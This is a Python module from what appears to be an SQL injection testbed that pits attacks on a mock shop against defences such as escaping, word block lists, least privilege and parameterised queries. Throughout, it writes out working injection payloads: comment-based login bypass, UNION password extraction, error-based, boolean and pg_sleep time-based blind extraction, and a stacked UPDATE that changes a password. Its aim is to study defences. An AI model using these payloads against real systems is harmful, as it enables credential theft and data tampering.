"""What the attacker on h1 sends, step by step, and what it reads out of the answers."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote, urlencode

from testbed import NO_DEFENCE, Defence, Layer
from testbed.daemons.database_pages import DatabasePages

ACCOUNTS = DatabasePages.accounts

VICTIM = min(ACCOUNTS.values())
"""The password that the attacker is after: the first in the order of the alphabet."""

LETTERS = len(VICTIM) + 1
"""That are asked for by time; one more than it has: the attacker learns where it ends."""

FIRST_LETTERS = 3
"""That are asked for bit by bit, which takes many questions; the others would follow."""

BITS = 7
BEARS_STALL_S = 0.0005
"""Of claims that read the attack by time, where half a unit is a wrong letter."""

UNIT_MS = 10
"""By how much a letter's number delays an answer."""

_HOST = "shop.example.org"


def get(path: str, **query: str) -> str:
    """A GET request."""
    return f"GET {path}?{urlencode(query, quote_via=quote)} HTTP/1.1\r\nHost: {_HOST}\r\n\r\n"


def post(path: str, **form: str) -> str:
    """A POST request with a form."""
    body = urlencode(form)
    head = f"POST {path} HTTP/1.1\r\nHost: {_HOST}\r\nContent-Length: {len(body)}\r\n"
    return f"{head}Content-Type: application/x-www-form-urlencoded\r\n\r\n{body}"


def login(defence: str, user: str, password: str) -> str:
    """An attempt to log in."""
    return post(f"/{defence}/login", user=user, password=password)


def item(defence: str, number: str) -> str:
    """A question for an item."""
    return get(f"/{defence}/item", number=number)


def search(defence: str, word: str) -> str:
    """A search for items."""
    return get(f"/{defence}/search", word=word)


def _write(defence: str) -> list[str]:
    new = f"changed-{defence}"
    letters = "||".join(f"chr({ord(letter)})" for letter in new)
    change = f"1; UPDATE accounts SET password = {letters}"
    old = ACCOUNTS["alice"]
    return [item(defence, change), login(defence, "alice", new), login(defence, "alice", old)]


def _bits(defence: str) -> list[str]:
    """One question per bit of each letter."""
    text = "1/**/AND/**/(SELECT ascii(substr(min(password),{},1))&{} FROM accounts)>0"
    asked = [
        text.format(place + 1, 1 << bit) for place in range(FIRST_LETTERS) for bit in range(BITS)
    ]
    return [item(defence, number) for number in asked]


def _pauses(defence: str) -> list[str]:
    """A question that waits for nothing, then one per letter that waits."""
    text = (
        "1/**/AND/**/1=(SELECT 1 FROM pg_sleep({}*"
        "(SELECT ascii(substr(min(password),{},1)) FROM accounts)))"
    )
    asked = [text.format(UNIT_MS / 1000, place + 1) for place in range(LETTERS)]
    return [item(defence, number) for number in (text.format(0, 1), *asked)]


_UNION = (
    "zzz'/**/UNION/**/SELECT/**/name||':'||password,0/**/FROM/**/accounts/**/WHERE/**/name"
    "/**/LIKE/**/'alice"
)
_OTHERS = "CAST((SELECT/**/min(password)/**/FROM/**/accounts)/**/AS/**/integer)"

ATTACKS: dict[str, Callable[[str], list[str]]] = {
    "comment": lambda to: [login(to, "alice' --", "x")],
    "hidden-comment": lambda to: [login(to, "alice'/*", "*/AND/**/''='")],
    "password": lambda to: [login(to, "alice", "'/**/OR/**/name='alice")],
    "usual-union": lambda to: [search(to, _UNION.replace("/**/", " "))],
    "union": lambda to: [search(to, _UNION)],
    "number": lambda to: [item(to, "0/**/UNION/**/SELECT/**/min(password)/**/FROM/**/accounts")],
    "error": lambda to: [item(to, f"0+{_OTHERS}")],
    "truth": _bits,
    "time": _pauses,
    "write": _write,
}
"""Attack → the requests of its connection, for a defence."""

IN_WORDS = {
    "comment": "login by a comment",
    "hidden-comment": "login by a comment in two fields",
    "password": "login by OR in the password",
    "usual-union": "UNION in a text",
    "union": "UNION in a text, without spaces",
    "number": "UNION in a number",
    "error": "read by error messages",
    "truth": "read by yes and no",
    "time": "read by time",
    "write": "a second statement that writes",
}
"""Attack → in words."""

DEFENCES = {
    NO_DEFENCE: Defence("no defence", None, "comment_replaces_the_password"),
    "escaping": Defence("escaping quotes", Layer.APPLICATION, "escaping_protects_text_alone"),
    "blocking": Defence(
        "list of forbidden words", Layer.APPLICATION, "forbidden_words_are_written_otherwise"
    ),
    "checking": Defence("input checks", Layer.APPLICATION, "checks_need_a_form"),
    "quiet": Defence("no error messages", Layer.APPLICATION, "silence_stops_errors_alone"),
    "least-privilege": Defence(
        "least privilege", Layer.SERVER, "least_privilege_limits_the_damage"
    ),
    "parameters": Defence("parameters", Layer.APPLICATION, "parameters_stop_all"),
    "sqlite": Defence("another database (SQLite)", Layer.SERVER, "other_databases_are_open_too"),
}

HONEST: dict[str, Callable[[str], list[str]]] = {
    "login": lambda to: [login(to, "bob", ACCOUNTS["bob"])],
    "apostrophe": lambda to: [login(to, "o'brien", ACCOUNTS["o'brien"])],
    "search": lambda to: [search(to, "kettle")],
    "search-apostrophe": lambda to: [search(to, "baker's")],
    "item": lambda to: [item(to, "2")],
}
"""The same for visitors who want nothing but to buy."""


def step(defence: str, name: str) -> str:
    """The step in which an attack or a visitor meets a defence."""
    return f"{name}, {defence}"
